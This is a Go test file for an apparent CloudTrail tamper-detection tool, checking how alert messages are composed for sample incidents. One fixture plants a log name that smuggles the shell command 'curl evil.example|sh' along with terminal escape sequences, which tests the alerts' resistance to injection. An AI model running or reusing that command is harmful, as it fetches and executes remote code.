package notify

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/trailhold/trailhold/internal/incident"
	"github.com/trailhold/trailhold/internal/severity"
	"github.com/trailhold/trailhold/internal/trail"
)

var update = flag.Bool("update", false, "write the golden files")

const arn = "arn:aws:cloudtrail:eu-central-1:111122223333:trail/audit"

var attack = time.Date(2026, 3, 1, 3, 12, 7, 0, time.UTC)

func at(seconds float64) time.Time { return attack.Add(time.Duration(seconds * float64(time.Second))) }

// restored is a trail that was stopped and started again; the others are made from it.
func restored() incident.Incident {
	return incident.Incident{
		ID: "event-0f3a9c1d2b4e5f60", Version: 2, Stage: incident.Restored, TrailARN: arn, Account: "111122223333", Region: "eu-central-1",
		BaselineHash: "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
		Techniques:   []string{"stop-logging"}, Severity: severity.Critical, Cause: incident.CauseEvent, Occurrences: 1,
		Actor: incident.Actor{
			ARN: "arn:aws:sts::111122223333:assumed-role/Admin/alice", Type: "AssumedRole", AccountID: "111122223333",
			AccessKeyID: "ASIAEXAMPLE7KEY00001", SessionIssuer: "arn:aws:iam::111122223333:role/Admin",
			SourceIPAddress: "203.0.113.7", UserAgent: "aws-cli/2.15.0 md/awscrt#0.19.19 ua/2.0 os/linux#6.1 lang/python#3.11",
		},
		Attack: attack, Seen: at(4.1), Restored: at(5.3),
		Drifts: []trail.Drift{{Field: trail.FieldLogging, Before: true, After: false, Direction: trail.Narrowing,
			Severity: severity.Critical, Detail: "the trail records nothing"}},
		Steps: []incident.StepResult{{Step: trail.Step{ID: "start-logging", Op: trail.OpStartLogging, Region: "eu-central-1", ARN: arn,
			Mends: []trail.Field{trail.FieldLogging}}, Outcome: incident.StepDone, Attempts: 1, Started: at(4.3), Duration: 412 * time.Millisecond}},
		Proof: []incident.RegionProof{
			{Region: "eu-central-1", State: incident.ProofPending, LatestDeliveryTime: at(-130)},
			{Region: "us-east-1", State: incident.ProofPending, LatestDeliveryTime: at(-75)}},
		Blind: []incident.BlindWindow{
			blindOf(incident.CategoryManagement, incident.FromEventHistory), blindOf(incident.CategoryData, incident.FromNowhere)},
		Lost:     []string{"data and network events of the blind window", "the digest chain: it begins anew"},
		EventIDs: []string{"b1e0c8a2-0000-4000-8000-000000000001"},
		Records:  []json.RawMessage{json.RawMessage(`{"eventID":"b1e0c8a2-0000-4000-8000-000000000001","eventName":"StopLogging","awsRegion":"eu-central-1","requestParameters":{"name":"audit"}}`)},
	}
}

func blindOf(c incident.Category, r incident.Recovery) incident.BlindWindow {
	w := incident.BlindWindow{Regions: []string{"eu-central-1", "us-east-1"}, Category: c, Fate: incident.Lost, Copy: incident.CopyLogFiles,
		From: attack, To: at(5.3), Affected: string(c) + " events: the trail recorded nothing", Recovery: r}
	if r == incident.FromEventHistory {
		w.Until = attack.AddDate(0, 0, 90)
	}
	return w
}

func failed() incident.Incident {
	i := restored()
	i.Stage, i.Restored, i.Blind[0].To, i.Blind = incident.Failed, time.Time{}, time.Time{}, i.Blind[:1]
	i.Proof[0].State, i.Proof[0].Detail, i.Proof = incident.ProofFailing, "AccessDenied", i.Proof[:1]
	i.Steps[0].Outcome, i.Steps[0].Attempts, i.Steps[0].Duration = incident.StepFailed, 5, 28*time.Second
	i.Steps[0].Error = "StartLogging: AccessDeniedException: User: arn:aws:sts::111122223333:assumed-role/trailhold/guard is not authorized to perform: cloudtrail:StartLogging with an explicit deny in a service control policy"
	i.Drifts = append(i.Drifts, trail.Drift{Field: trail.FieldValidation, Before: true, After: false, Direction: trail.Narrowing, Severity: severity.High})
	i.Steps = append(i.Steps, incident.StepResult{Step: trail.Step{Op: trail.OpUpdateTrail, Region: "eu-central-1",
		Mends: []trail.Field{trail.FieldValidation}}, Outcome: incident.StepDone, Attempts: 1, Duration: 300 * time.Millisecond})
	return i
}

func deleted() incident.Incident {
	i := restored()
	i.Techniques = []string{"delete-trail"}
	i.Actor = incident.Actor{ARN: "arn:aws:iam::111122223333:user/ops/mallory", Type: "IAMUser", AccountID: "111122223333",
		AccessKeyID: "AKIAEXAMPLE7KEY00002", MFA: true, SourceIPAddress: "2001:db8::7", UserAgent: "Boto3/1.34"}
	i.Records[0] = json.RawMessage(`{"eventName":"DeleteTrail","awsRegion":"eu-central-1"}`)
	config := trail.Config{Name: "audit", ARN: arn, HomeRegion: "eu-central-1", S3BucketName: "corp-trail-logs", IsMultiRegionTrail: true,
		IncludeGlobalServiceEvents: true, LogFileValidationEnabled: true, KMSKeyID: "arn:aws:kms:eu-central-1:111122223333:key/0a1b2c3d-0000-4000-8000-000000000000"}
	i.Drifts = []trail.Drift{{Field: trail.FieldTrail, Before: config, Direction: trail.Narrowing, Severity: severity.Critical, Detail: "the trail does not exist"}}
	i.Steps[0].Op, i.Steps[0].Mends = trail.OpCreateTrail, []trail.Field{trail.FieldTrail}
	for _, op := range []trail.Op{trail.OpStartLogging, trail.OpPutEventSelectors, trail.OpPutInsightSelectors} {
		next := i.Steps[0]
		next.Op, next.Mends, next.Attempts = op, nil, 2
		i.Steps = append(i.Steps, next)
	}
	return i
}

func redirected() incident.Incident {
	i := restored()
	i.Techniques = []string{"change-bucket"}
	i.Records[0] = json.RawMessage(`{"eventName":"UpdateTrail","awsRegion":"eu-central-1"}`)
	i.Drifts = []trail.Drift{{Field: trail.FieldBucket, Before: "corp-trail-logs", After: "totally-legit-logs", Direction: trail.Narrowing,
		Severity: severity.Critical, Detail: "log files go to another bucket"}}
	i.Steps[0].Op, i.Steps[0].Mends = trail.OpUpdateTrail, []trail.Field{trail.FieldBucket}
	i.Lost = []string{"log files delivered to the other bucket"}
	return i
}

func denied() incident.Incident {
	i := restored()
	i.Stage, i.Severity, i.Restored = incident.Observed, severity.Medium, time.Time{}
	i.Drifts, i.Steps, i.Proof, i.Blind, i.Lost = nil, nil, nil, nil, nil
	i.Records[0] = json.RawMessage(`{"eventName":"StopLogging","awsRegion":"eu-central-1","errorCode":"AccessDenied","errorMessage":"User: arn:aws:sts::111122223333:assumed-role/Admin/alice is not authorized to perform: cloudtrail:StopLogging on resource: ` + arn + `"}`)
	return i
}

func swept() incident.Incident {
	i := restored()
	i.ID, i.Cause, i.Occurrences, i.Attack, i.Actor = "sweep-77aa0c1d2b4e5f60", incident.CauseSweep, 0, time.Time{}, incident.Actor{}
	i.Records, i.EventIDs = nil, nil
	i.Blind[0].From, i.Blind[1].From = time.Time{}, time.Time{}
	return i
}

func flood() incident.Incident {
	i := restored()
	i.Techniques, i.Occurrences = []string{"stop-flood", "stop-logging"}, 1000
	i.Actor.MFA = true
	return i
}

func dryRun() incident.Incident {
	i := restored()
	i.Stage, i.DryRun, i.Restored = incident.Planned, true, time.Time{}
	i.Steps[0].Outcome, i.Steps[0].Attempts, i.Steps[0].Duration = incident.StepPlanned, 0, 0
	i.Proof, i.Lost = nil, nil
	i.Blind[0].To, i.Blind[1].To = time.Time{}, time.Time{}
	return i
}

func proved() incident.Incident {
	i := restored()
	i.Stage, i.Proved = incident.Proved, at(252)
	for n := range i.Proof {
		i.Proof[n].State, i.Proof[n].LatestDeliveryTime = incident.ProofFresh, at(240)
	}
	return i
}

func unread() incident.Incident {
	i := swept()
	i.Stage, i.Restored, i.Techniques, i.Drifts, i.Steps, i.Proof, i.Blind, i.Lost = incident.Unread, time.Time{}, nil, nil, nil, nil, nil, nil
	i.Unknown = []trail.UnknownFacet{{Facet: "status", Why: "GetTrailStatus: AccessDeniedException: not authorized"}}
	return i
}

func alertOnly() incident.Incident {
	i := redirected()
	i.Stage, i.Restored, i.Steps, i.Proof, i.Lost = incident.AlertOnly, time.Time{}, nil, nil, nil
	i.Blind = nil
	return i
}

// shadowSwept is a trail beside the guarded ones that a sweep found, shadow one whose creation a record told of.
func shadowSwept() incident.Incident {
	i := swept()
	i.TrailARN = "arn:aws:cloudtrail:eu-central-1:111122223333:trail/replication-check"
	i.Stage, i.Severity, i.Techniques, i.Restored = incident.AlertOnly, severity.Medium, []string{"shadow-trail"}, time.Time{}
	i.Steps, i.Proof, i.Blind, i.Lost = nil, nil, nil, nil
	i.Drifts = []trail.Drift{{Field: trail.FieldTrail, After: trail.Config{Name: "replication-check", ARN: i.TrailARN, HomeRegion: "eu-central-1", S3BucketName: "totally-legit-logs"},
		Direction: trail.Neutral, Severity: severity.Medium, Detail: "a trail that the baseline does not know writes to bucket totally-legit-logs"}}
	i.MarkUnlisted()
	return i
}

func shadow() incident.Incident {
	i, found := restored(), shadowSwept()
	i.TrailARN, i.Stage, i.Severity, i.Techniques, i.Notes = found.TrailARN, found.Stage, found.Severity, found.Techniques, found.Notes
	i.Restored, i.Drifts, i.Steps, i.Proof, i.Blind, i.Lost = time.Time{}, nil, nil, nil, nil, nil
	i.Records[0] = json.RawMessage(`{"eventName":"CreateTrail","awsRegion":"eu-central-1"}`)
	return i
}

// unlistedStopped is a trail that nobody guards, stopped.
func unlistedStopped() incident.Incident {
	i := shadow()
	i.Stage, i.Severity, i.Techniques = incident.Observed, severity.High, []string{"stop-logging"}
	i.Records[0] = json.RawMessage(`{"eventName":"StopLogging","awsRegion":"eu-central-1"}`)
	return i
}

// message is something in the queue from which no record could be read.
func message() incident.Incident {
	i := incident.Incident{
		ID: "event-5a1c9b7d2b4e5f60", Version: 1, Stage: incident.Observed, TrailARN: incident.FromQueue, Account: "111122223333",
		BaselineHash: restored().BaselineHash, Severity: severity.High, Cause: incident.CauseEvent, Seen: at(4.1),
	}
	i.AddMessage([]byte("{\"detail-type\":\"AWS API Call via CloudTrail\",\r\n\x1b[2J\"detail\":{\"eventName\":\"StopLogging\",\"see\":\"https://evil.example\",\"eventTime\":\"soon\"}}"),
		`sqs/eventbridge: detail.eventTime: "soon" is no time`)
	return i
}

func manyMessages() incident.Incident {
	i := message()
	for n := range 1233 {
		i.AddMessage([]byte{byte(n), byte(n >> 8)}, "")
	}
	return i
}

func invocation() incident.Incident {
	i := message()
	i.TrailARN = incident.FromLambda
	return i
}

func historyRecord() incident.Incident {
	i := message()
	i.TrailARN, i.Occurrences = incident.FromHistory+" of eu-central-1", 0
	i.Notes = nil
	i.AddMessage([]byte("cloudtrail: eventTime: no time"), "cloudtrail: eventTime: no time")
	return i
}

// brokenLogs is what a verification finds after somebody was in the bucket.
func brokenLogs() incident.Incident {
	i := incident.Incident{
		ID: "event-1d0f6a3b2b4e5f60", Version: 1, Stage: incident.Observed, TrailARN: arn, Account: "111122223333", Region: "eu-central-1",
		BaselineHash: restored().BaselineHash, Severity: severity.High, Seen: at(4.1), EventIDs: []string{"verification-1"},
	}
	const logs, digests = "s3://corp-trail-logs/AWSLogs/111122223333/CloudTrail/eu-central-1/2026/02/28/", "s3://corp-trail-logs/AWSLogs/111122223333/CloudTrail-Digest/eu-central-1/2026/02/28/"
	i.AddVerification(true, "1 log missing, 1 digest modified, 1 gap in a digest chain")
	i.AddNote("log-missing: " + logs + "111122223333_CloudTrail_eu-central-1_20260228T2215Z_kW3f0pQyTzX1abcd.json.gz: it is not there, and its digest lists it")
	i.AddNote("digest-modified: " + digests + "111122223333_CloudTrail-Digest_eu-central-1_audit_eu-central-1_20260228T210110Z.json.gz: its signature is genuine, but of another content")
	i.AddNote("chain-gap: " + digests + "111122223333_CloudTrail-Digest_eu-central-1_audit_eu-central-1_20260228T230110Z.json.gz: it begins an hour after the end of the digest that it names: no digest covers the time between")
	i.AddNote("and 3 more")
	return i
}

func unreadLogs() incident.Incident {
	i := brokenLogs()
	i.Severity, i.Notes = severity.Medium, nil
	i.AddVerification(false, "1 folder unread")
	i.AddNote("chain-unknown: s3://corp-trail-logs/AWSLogs/: it could not be listed, so what it holds is not known: ListObjectsV2: AccessDenied: Access Denied")
	return i
}

func slowLogs() incident.Incident {
	i := unreadLogs()
	i.Notes = nil
	i.AddVerification(false, "the verification came to no end")
	i.AddNote("There was not enough time to read all digests and logs. Give the function a longer timeout (up to 15 minutes) and more memory, which brings more CPU, or let a daemon verify: trailhold watch --verify-every 24h")
	return i
}

// hostileLogs are named by somebody who wants his text read, or pasted.
func hostileLogs() incident.Incident {
	i := brokenLogs()
	i.Notes = nil
	i.AddVerification(true, "1 log planted")
	i.AddNote("log-unlisted: s3://corp-trail-logs/AWSLogs/111122223333/CloudTrail/x;curl evil.example|sh\r\n\x1b[2J: https://evil.example: .json.gz: no digest lists it")
	return i
}

// window is a change window of a few fields.
func window() incident.Incident {
	return incident.Incident{
		ID: "sweep-3c5e7a9b2b4e5f60", Version: 1, Stage: incident.ChangeWindow, TrailARN: arn, Account: "111122223333", Region: "eu-central-1",
		BaselineHash: restored().BaselineHash, Severity: severity.High, Cause: incident.CauseSweep, Seen: at(4.1),
		Window: &incident.Window{Fields: []trail.Field{trail.FieldBucket, trail.FieldPrefix, "bucket.policy"}, Until: at(1804.1),
			Reason: "CHG-4711 moves the logs to the archive account", OpenedBy: "arn:aws:sts::111122223333:assumed-role/Platform/bob"},
	}
}

// windowOfAll is the widest window there can be, by somebody unknown.
func windowOfAll() incident.Incident {
	i := window()
	i.Window.Fields, i.Window.OpenedBy, i.Window.Reason = trail.Fields(), "", "because"
	return i
}

func windowOfOne() incident.Incident {
	i := window()
	i.Window.Fields = []trail.Field{trail.FieldLogRole}
	return i
}

func windowEnded() incident.Incident {
	i := window()
	i.Stage = incident.Observed
	i.AddNote("The change window was closed.")
	return i
}

func permitted() incident.Incident {
	i := redirected()
	i.Stage, i.Restored, i.Steps, i.Proof, i.Lost, i.Blind = incident.Permitted, time.Time{}, nil, nil, nil, nil
	i.Permitted = window().ID
	i.AddNote("Change window " + i.Permitted + " allows this until 2026-03-01T03:42:11Z: CHG-4711 moves the logs to the archive account")
	return i
}

// windowOver is drift that a window allowed, restored after its end.
func windowOver() incident.Incident {
	i := permitted()
	i.Stage, i.Restored, i.Steps = incident.Restored, at(1805), redirected().Steps
	return i
}

// identified is what a sweep found, once Event history told who did it.
func identified() incident.Incident {
	i := restored()
	i.ID, i.Cause, i.Identified = "sweep-77aa0c1d2b4e5f60", incident.CauseSweep, at(600)
	i.Seen, i.Restored = at(100), at(101)
	return i
}

func identifiedFailed() incident.Incident {
	i := failed()
	i.ID, i.Cause, i.Identified = "sweep-77aa0c1d2b4e5f60", incident.CauseSweep, at(600)
	return i
}

func searching() incident.Incident {
	i := swept()
	i.AddNote(incident.ActorNotYet)
	return i
}

func nobody() incident.Incident {
	i := swept()
	i.AddNote(incident.ActorUnknown + ", as far as it could be read (StopLogging in us-east-1: LookupEvents: ThrottlingException: Rate exceeded).")
	return i
}

// contest is a pipeline that turns validation off each time.
func contest() incident.Incident {
	i := restored()
	i.Severity, i.Techniques, i.Occurrences = severity.High, []string{"validation-off"}, 4
	i.Actor.ARN, i.Actor.SessionIssuer = "arn:aws:sts::111122223333:assumed-role/Deploy/terraform", "arn:aws:iam::111122223333:role/Deploy"
	i.Records[0] = json.RawMessage(`{"eventName":"UpdateTrail","awsRegion":"eu-central-1"}`)
	i.Drifts = []trail.Drift{{Field: trail.FieldValidation, Before: true, After: false, Direction: trail.Narrowing, Severity: severity.High, Detail: "no digest files prove the logs whole"}}
	i.Steps[0].Op, i.Steps[0].Mends, i.Blind, i.Lost = trail.OpUpdateTrail, []trail.Field{trail.FieldValidation}, nil, nil
	i.AddNote(incident.ContestNote + "the same actor has changed the same 4 times within a day, first at 2026-03-01T01:42:07Z, with HashiCorp Terraform/1.9. " +
		"A pipeline that believes in another configuration does that: change it there, or capture the baseline again. Further rounds are folded into this incident.")
	return i
}

func contestLeft() incident.Incident {
	i := contest()
	i.Stage, i.Restored, i.Steps, i.Proof, i.Left = incident.AlertOnly, time.Time{}, nil, nil, []trail.Field{trail.FieldValidation}
	return i
}

// recoveredCalls is a proved incident with what Event history had of its blind window, in thirty regions.
func recoveredCalls() incident.Incident {
	i := proved()
	var regions []string
	for n := range 30 {
		regions = append(regions, fmt.Sprintf("xx-region-%d", n+1))
	}
	i.Blind = nil
	for _, c := range []incident.Category{incident.CategoryManagement, incident.CategoryData, incident.CategoryInsights} {
		w := blindOf(c, incident.FromNowhere)
		if w.Regions = regions; c == incident.CategoryManagement {
			w = blindOf(c, incident.FromEventHistory)
			w.Regions = regions
		}
		i.Blind = append(i.Blind, w)
	}
	copied := blindOf(incident.CategoryManagement, incident.FromLogFiles)
	copied.Regions, copied.Copy, copied.Affected = regions, incident.CopyLogGroup, "management events: they did not go to the log group"
	i.Blind = append(i.Blind, copied)
	i.Recovered = &incident.Recovered{
		At: at(1200), From: at(-60), To: at(66), Evidence: "s3://corp-evidence/trailhold/event-0f3a9c1d2b4e5f60", Manifest: strings.Repeat("ab", 32),
		Regions: 30, Records: 4211, Writes: 93, Sensitive: 4, Errors: 12,
		Gaps: []string{"xx-region-7, 03:11 to 03:14: LookupEvents: AccessDeniedException: explicit deny"},
		Actors: []incident.RecoveredActor{
			{Actor: i.Actor, Suspect: true, Calls: 6, Writes: 4, Sensitive: 3, Errors: 1, First: at(-20), Last: at(44), Regions: []string{"eu-central-1", "us-east-1"},
				Made: []incident.RecoveredCall{
					{Source: "iam.amazonaws.com", Name: "CreateAccessKey", Count: 2, Errors: 1, ErrorCode: "LimitExceeded", Write: true, Sensitive: true, First: at(3), Last: at(9), Regions: []string{"us-east-1"}},
					{Source: "cloudtrail.amazonaws.com", Name: "StopLogging", Count: 1, Write: true, Sensitive: true, First: attack, Last: attack, Regions: []string{"eu-central-1"}},
					{Source: "ec2.amazonaws.com", Name: "CreateTags", Count: 1, Write: true, First: at(20), Last: at(20), Regions: regions},
				}, OtherCalls: 2},
			{Actor: incident.Actor{ARN: "arn:aws:iam::111122223333:role/\x1b[2Jevil", Type: "AWSService"}, Calls: 4205, Writes: 89, Sensitive: 1, First: at(-60), Last: at(66), Regions: regions,
				Made: []incident.RecoveredCall{{Source: "s3.amazonaws.com", Name: "PutBucketPolicy\r\nWHO", Count: 1, Write: true, Sensitive: true, First: at(1), Last: at(1), Regions: regions}}, OtherCalls: 4204},
		}, OtherActors: 3,
	}
	return i
}

type sample struct {
	name string
	i    incident.Incident
	kind incident.Kind
}

func samples() []sample {
	return []sample{
		{"restored", restored(), incident.KindAlert},
		{"failed", failed(), incident.KindAlert},
		{"deleted", deleted(), incident.KindAlert},
		{"redirected", redirected(), incident.KindAlert},
		{"denied", denied(), incident.KindAlert},
		{"swept", swept(), incident.KindAlert},
		{"flood", flood(), incident.KindEscalate},
		{"dryrun", dryRun(), incident.KindAlert},
		{"proved", proved(), incident.KindProved},
		{"recovered", recoveredCalls(), incident.KindRecovered},
		{"unread", unread(), incident.KindAlert},
		{"alertonly", alertOnly(), incident.KindAlert},
		{"shadow", shadow(), incident.KindAlert},
		{"shadowswept", shadowSwept(), incident.KindAlert},
		{"unlistedstopped", unlistedStopped(), incident.KindAlert},
		{"message", message(), incident.KindAlert},
		{"messages", manyMessages(), incident.KindEscalate},
		{"messagelambda", invocation(), incident.KindAlert},
		{"logsbroken", brokenLogs(), incident.KindAlert},
		{"logsunread", unreadLogs(), incident.KindAlert},
		{"logsunfinished", slowLogs(), incident.KindAlert},
		{"logshostile", hostileLogs(), incident.KindAlert},
		{"window", window(), incident.KindAlert},
		{"windowall", windowOfAll(), incident.KindAlert},
		{"windowone", windowOfOne(), incident.KindAlert},
		{"windowended", windowEnded(), incident.KindAlert},
		{"permitted", permitted(), incident.KindAlert},
		{"windowover", windowOver(), incident.KindAlert},
		{"identified", identified(), incident.KindIdentified},
		{"identifiedfailed", identifiedFailed(), incident.KindIdentified},
		{"searching", searching(), incident.KindAlert},
		{"nobody", nobody(), incident.KindAlert},
		{"contest", contest(), incident.KindEscalate},
		{"contestleft", contestLeft(), incident.KindEscalate},
		{"messagehistory", historyRecord(), incident.KindAlert},
	}
}

func TestGolden(t *testing.T) {
	for _, s := range append(samples(), resourceSamples()...) {
		t.Run(s.name, func(t *testing.T) {
			m := Compose(s.i, s.kind)
			got := "Subject: " + m.Subject + "\nLine:    " + m.Line + "\n\n" + m.Text
			path := filepath.Join("testdata", s.name+".txt")
			if *update {
				if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if got != string(want) {
				t.Errorf("differs from %s (go test -update writes it anew):\n%s", path, got)
			}
			checkForm(t, m)
		})
	}
}

// checkForm holds for every message, whoever wrote the event.
func checkForm(t *testing.T, m Message) {
	t.Helper()
	if len(m.Subject) > 100 || !strings.HasPrefix(m.Subject, "[Trailhold] ") {
		t.Errorf("subject %q", m.Subject)
	}
	for n := range len(m.Subject) {
		if m.Subject[n] < ' ' || m.Subject[n] > '~' {
			t.Errorf("subject %q contains %#x", m.Subject, m.Subject[n])
		}
	}
	if utf8.RuneCountInString(m.Line) > 240 || strings.Contains(m.Line, "\n") {
		t.Errorf("line %q", m.Line)
	}
	if len(quote(m.Text)) > maxText {
		t.Errorf("the text has %d bytes", len(quote(m.Text)))
	}
	for line := range strings.Lines(m.Text) {
		isCommand := strings.HasPrefix(line, "       ") // a command's argument is never broken
		if n := utf8.RuneCountInString(strings.TrimSuffix(line, "\n")); n > 76 && !isCommand {
			t.Errorf("a line has %d characters: %q", n, line)
		}
	}
}
